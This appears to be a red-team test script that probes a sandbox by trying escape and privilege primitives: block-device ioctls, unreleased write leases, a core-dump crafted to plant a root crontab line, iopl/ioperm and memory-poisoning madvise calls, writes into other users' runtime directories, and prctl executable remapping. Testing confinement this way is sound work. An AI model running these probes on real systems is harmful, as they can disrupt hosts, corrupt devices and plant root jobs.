"""Fifth round of the red team: each attack prints what it got."""
import fcntl, os, signal, struct, sys, time
what = sys.argv[1]
if what == "blockdev":  # DEV: BLKROSET and LOOP_CLR_FD on a disk opened for reading
    fd = os.open(sys.argv[2], os.O_RDONLY)
    for name, cmd, arg in (("roset", 0x125D, struct.pack("i", 1)), ("clr", 0x4C01, 0)):
        try: fcntl.ioctl(fd, cmd, arg); print(name, "ok")
        except OSError as e: print(name, e.strerror)
elif what == "lease":  # FILE SECONDS: a write lease on a file opened for reading
    signal.signal(signal.SIGIO, signal.SIG_IGN)  # never give it back
    fd = os.open(sys.argv[2], os.O_RDONLY)
    try: fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_WRLCK); print("lease", "taken", flush=True)
    except OSError as e: print("lease", e.strerror, flush=True); sys.exit(0)
    time.sleep(float(sys.argv[3]))
elif what == "core":  # DIR: raise RLIMIT_CORE, crash a child whose memory is a crontab line
    import resource
    os.chdir(sys.argv[2])
    resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2)
    print("core limit", resource.getrlimit(resource.RLIMIT_CORE))
    resource.prlimit(os.getpid(), resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2)
    print("by pid", resource.getrlimit(resource.RLIMIT_CORE))
    pid = os.fork()
    if pid == 0:
        line = b"\n* * * * * root touch /tmp/escort-red5-cron\n" * 100
        os.kill(os.getpid(), signal.SIGSEGV)
    _, status = os.waitpid(pid, 0)
    print("child", "core dumped" if os.WCOREDUMP(status) else "no core")
elif what == "hardware":  # iopl, ioperm, madvise(MADV_HWPOISON, MADV_SOFT_OFFLINE)
    import ctypes, mmap
    libc = ctypes.CDLL(None, use_errno=True)
    libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
    page = mmap.mmap(-1, mmap.PAGESIZE)
    page[0] = 1
    addr = ctypes.addressof(ctypes.c_char.from_buffer(page))
    for name, call in (("iopl", lambda: libc.iopl(3)), ("ioperm", lambda: libc.ioperm(0x80, 1, 1)),
                       ("hwpoison", lambda: libc.madvise(addr, mmap.PAGESIZE, 100)),
                       ("soft-offline", lambda: libc.madvise(addr, mmap.PAGESIZE, 101))):
        print(name, "ok" if call() == 0 else os.strerror(ctypes.get_errno()))
elif what == "runtime":  # FILE...: write each (another account's /run/user, then one's own)
    for path in sys.argv[2:]:
        try:
            with open(path, "w") as f: f.write("planted\n")
            print("wrote", path)
        except OSError as e: print("write", path, e.strerror)
elif what == "exe-link":  # prctl(PR_SET_MM, PR_SET_MM_EXE_FILE / PR_SET_MM_MAP)
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    fd = os.open("/bin/true", os.O_RDONLY)
    for name, sub, arg, size in (("exe-file", 13, fd, 0), ("mm-map", 14, 0, 0)):
        r = libc.prctl(35, sub, ctypes.c_ulong(arg), ctypes.c_ulong(size), 0)
        print(name, "ok" if r == 0 else os.strerror(ctypes.get_errno()))
